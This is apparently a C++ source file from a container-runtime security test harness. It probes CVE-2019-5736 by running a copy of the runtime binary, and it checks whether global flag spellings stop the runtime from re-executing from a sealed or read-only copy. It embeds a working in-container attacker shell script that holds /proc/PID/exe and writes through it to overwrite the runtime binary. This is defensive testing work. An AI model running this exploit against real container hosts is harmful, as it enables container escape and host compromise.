// The runtime's own binary reachable for writing from inside (CVE-2019-5736).
//
// runtime-exe-overwrite: the container's init is an attacker shell that watches its pid
// namespace. The probe then runs `exec <id> /evil`, where /evil is a script starting with
// `#!/proc/self/exe`: the runtime's process in the container execve()s it, so the kernel
// re-executes the runtime's own binary inside the container as an ordinary, dumpable process.
// The attacker stops every new process (SIGSTOP), and when one runs something other than
// busybox it opens its /proc/PID/exe read-only, lets it go, waits for it to exit and then
// re-opens that fd for writing through /proc/self/fd/3 and writes one byte: what the original
// exploit did to overwrite runc. Never harm the host: the probe runs a COPY of the runtime
// binary placed in its workdir (with its own state root), so even a runtime that falls to this
// can only damage the copy. Judge: the attacker's report (write refused) AND the copy's sha256
// unchanged.
//
// protected-reexec-flag-spelling: the defence is that every process entering a container runs
// from a copy the container cannot write through (a sealed memfd, a read-only mount). A runtime
// that decides whether to make that copy by reading its own command line can be talked out of
// it by a global flag it parses differently there. The probe creates a container with each
// spelling of the global flags and inspects, from the host, the binary its init (blocked on the
// exec fifo, still the runtime) runs from.
#include <fcntl.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <unistd.h>

#include <filesystem>
#include <thread>

#include "probe/cases/cases.h"
#include "probe/kit.h"

namespace rampart::probe {

namespace {

namespace fs = std::filesystem;

const char* kAttacker = R"SH(
echo ready > /out/ready
while :; do
  for d in /proc/[0-9]*; do
    p=${d#/proc/}
    case "$p" in 1|$$) continue;; esac
    kill -STOP "$p" 2>/dev/null || continue
    e=$(readlink "$d/exe" 2>/dev/null)
    case "$e" in ""|*busybox*) kill -CONT "$p" 2>/dev/null; continue;; esac
    if ! command exec 3<"$d/exe"; then echo "nohold $e" >> /out/log; kill -CONT "$p"; continue; fi
    echo "held $p $e" >> /out/log
    if command exec 5>>"$d/exe"; then echo RUNNING-WRITABLE >> /out/log; command exec 5>&-; fi
    kill -CONT "$p"
    n=0; while [ -e "$d/exe" ] && [ $n -lt 3000 ]; do n=$((n+1)); done
    if command exec 4>>/proc/self/fd/3; then
      echo OPENED >> /out/log
      if printf X >&4; then echo WROTE >> /out/log; else echo WRITEFAIL >> /out/log; fi
    else
      echo DENIED >> /out/log
    fi
    echo done >> /out/log
    exit 0
  done
done
)SH";

std::string sha256(Context& ctx, const std::string& path) {
  auto r = ctx.host_cmd({"sha256sum", path});
  return r.exit_code == 0 ? first_line(r.out).substr(0, 64) : "";
}

Outcome exe_overwrite(Context& ctx) {
  std::string bindir = ctx.workdir() + "/exe-overwrite-bin";
  make_dir(bindir);
  std::string copy = bindir + "/" + fs::path(ctx.runtime()).filename().string();
  std::error_code ec;
  fs::copy_file(ctx.runtime(), copy, fs::copy_options::overwrite_existing, ec);
  if (ec) return broken("cannot copy the runtime binary: " + ec.message());
  ::chmod(copy.c_str(), 0755);
  std::string before = sha256(ctx, copy);
  if (before.empty()) return broken("sha256sum of the runtime copy failed");

  std::string root = ctx.workdir() + "/exe-overwrite-state";
  std::string out = ctx.workdir() + "/exe-overwrite-out";
  make_dir(root);
  make_dir(out);
  ::chmod(out.c_str(), 0777);
  Bundle b = ctx.make_bundle("exe-overwrite");
  write_file(b.rootfs + "/evil", "#!/proc/self/exe\n", 0755);
  make_dir(b.rootfs + "/out");
  b.config["mounts"].push_back(bind_mount(out, "/out"));
  set_sh(b, kAttacker);
  b.write();

  const std::string id = "exe-overwrite";
  auto rt = [&](std::vector<std::string> args, int secs = 20) {
    auto argv = ctx.runtime_argv(copy, root);
    argv.insert(argv.end(), args.begin(), args.end());
    return ctx.host_cmd(argv, std::chrono::seconds(secs));
  };
  struct Guard {
    std::function<void()> f;
    ~Guard() { f(); }
  } guard{[&] { rt({"delete", "-f", id}); }};

  auto r = rt({"create", "--bundle", b.dir, id});
  if (r.exit_code != 0) return broken("create failed: " + squash(r.err));
  r = rt({"start", id});
  if (r.exit_code != 0) return broken("start failed: " + squash(r.err));
  if (!wait_for_file(out + "/ready", std::chrono::seconds(5))) return broken("the attacker in the container did not start");

  // A control exec first: when exec itself does not work, nothing here can be judged.
  r = rt({"exec", id, "/bin/true"}, 10);
  if (r.exit_code != 0) return broken("exec of /bin/true in the container failed: " + squash(r.err, 160));
  int execs = 0, evil_ok = 0;
  std::string log, evil_err;
  auto t0 = std::chrono::steady_clock::now();
  while (execs < 40 && std::chrono::steady_clock::now() - t0 < std::chrono::seconds(40)) {
    ++execs;
    auto e = rt({"exec", id, "/evil"}, 10);
    if (e.exit_code == 0 || e.err.find("/evil") == std::string::npos) ++evil_ok;
    else evil_err = e.err;
    log = read_text(out + "/log");
    if (log.find("held") != std::string::npos) {
      for (int i = 0; i < 100 && log.find("done") == std::string::npos; ++i) {
        std::this_thread::sleep_for(std::chrono::milliseconds(50));
        log = read_text(out + "/log");
      }
      break;
    }
  }
  std::string after = sha256(ctx, copy);
  if (after != before)
    return escaped("the copy of the runtime binary was modified from inside the container (sha256 changed)");
  if (log.find("WROTE") != std::string::npos)
    return escaped("the container wrote to the runtime binary it re-executed through /proc/PID/exe");
  if (log.find("RUNNING-WRITABLE") != std::string::npos)
    return escaped("the container opened the running runtime binary for writing through /proc/PID/exe");
  if (log.find("held") == std::string::npos) {
    if (log.find("nohold") != std::string::npos)
      return resisted("the re-executed runtime binary could not be opened: " + squash(log, 160));
    if (evil_ok == 0)
      return resisted("the runtime's binary was never re-executed inside the container: every exec of the "
                      "#!/proc/self/exe script failed (" + squash(first_line(evil_err), 120) + ")");
    return broken("no re-executed runtime process was caught in " + std::to_string(execs) + " execs of /evil");
  }
  if (log.find("done") == std::string::npos) return broken("the attacker did not finish: " + squash(log, 160));
  return resisted("write through /proc/PID/exe refused (" + squash(log, 160) + "); the binary is unchanged");
}


// What the process `pid` runs from: "" when it is a read-only mount or a write-sealed memfd,
// else a description of the writable file.
std::string writable_exe(pid_t pid) {
  std::string link = "/proc/" + std::to_string(pid) + "/exe";
  int fd = ::open(link.c_str(), O_RDONLY | O_CLOEXEC);
  if (fd < 0) return "";  // gone or not ours to open: nothing to judge (the caller checks)
  struct statvfs vfs {};
  bool ro = ::fstatvfs(fd, &vfs) == 0 && (vfs.f_flag & ST_RDONLY);
  int seals = ::fcntl(fd, F_GET_SEALS);
  bool sealed = seals >= 0 && (seals & F_SEAL_WRITE);
  ::close(fd);
  if (ro || sealed) return "";
  char buf[4096];
  ssize_t n = ::readlink(link.c_str(), buf, sizeof buf);
  return std::string(buf, n > 0 ? static_cast<size_t>(n) : 0) + " (neither on a read-only mount nor write-sealed)";
}

Outcome reexec_with(Context& ctx, const std::string& tag, const std::vector<std::string>& flags) {
  Bundle b = ctx.make_bundle(tag);
  b.write();
  // Every command with the same global flags, from the bundle dir: one runtime (crun 1.8.1)
  // takes `--rootless true` as a state root named "true", relative to its cwd, and changes into
  // the bundle dir for `create`.
  auto rt = [&](std::vector<std::string> args) {
    std::vector<std::string> argv = {"sh", "-c", "cd \"$0\" && exec \"$@\"", b.dir};
    for (auto& a : ctx.runtime_argv()) argv.push_back(a);
    argv.insert(argv.end(), flags.begin(), flags.end());
    argv.insert(argv.end(), args.begin(), args.end());
    return ctx.host_cmd(argv);
  };
  struct Cleanup {
    std::function<void()> f;
    ~Cleanup() { f(); }
  } cleanup{[&] { rt({"delete", "-f", tag}); }};
  auto r = rt({"create", "--bundle", b.dir, tag});
  if (r.exit_code != 0) return refused(r);
  auto st = rt({"state", tag});
  pid_t pid = state_pid(st);
  if (pid <= 0) return broken("no init pid in `state`: " + squash(st.out + st.err, 160));
  struct stat probe_st {};
  if (::stat(("/proc/" + std::to_string(pid) + "/exe").c_str(), &probe_st) != 0)
    return broken("the created container's init (pid " + std::to_string(pid) + ") has no /proc/PID/exe to inspect");
  std::string w = writable_exe(pid);
  if (!w.empty())
    return escaped("the container's init runs from " + w + ": it can be re-opened for writing once it exits");
  return resisted("the init runs from a read-only or sealed copy of the runtime");
}

Outcome reexec_flag_spelling(Context& ctx) {
  std::string log = ctx.workdir() + "/reexec.log";
  struct Spelling {
    const char* label;
    std::vector<std::string> flags;
  };
  std::vector<Spelling> spellings = {
      {"no global flag", {}},
      {"--rootless true", {"--rootless", "true"}},
      {"--rootless=true", {"--rootless=true"}},
      {"-rootless true", {"-rootless", "true"}},
      {"--log-format text", {"--log-format", "text"}},
      {"--log-format=text", {"--log-format=text"}},
      {"--log FILE", {"--log", log}},
      {"--log=FILE", {"--log=" + log}},
      {"--debug", {"--debug"}},
      {"--criu criu", {"--criu", "criu"}},
  };
  std::vector<Variant> vs;
  int n = 0;
  for (const auto& s : spellings) {
    std::string tag = "reexec-" + std::to_string(++n);
    vs.push_back({s.label, [&ctx, tag, s] { return reexec_with(ctx, tag, s.flags); }});
  }
  return run_variants("with every global flag spelling the init ran from a protected copy", vs);
}

}  // namespace

std::vector<Case> runtime_binary_cases() {
  return {
      {"runtime-exe-overwrite", RuntimeBinary, {"CVE-2019-5736"},
       "`exec` of a `#!/proc/self/exe` script re-executes the runtime binary inside the container; "
       "a container process holds its /proc/PID/exe and writes through it after it exits",
       exe_overwrite},
      {"protected-reexec-flag-spelling", RuntimeBinary, {"CVE-2019-5736"},
       "`create` with each spelling of the global flags (--rootless true, --log=FILE, ...): the container's init "
       "must still run from a read-only or sealed copy of the runtime",
       reexec_flag_spelling},
  };
}

}  // namespace rampart::probe
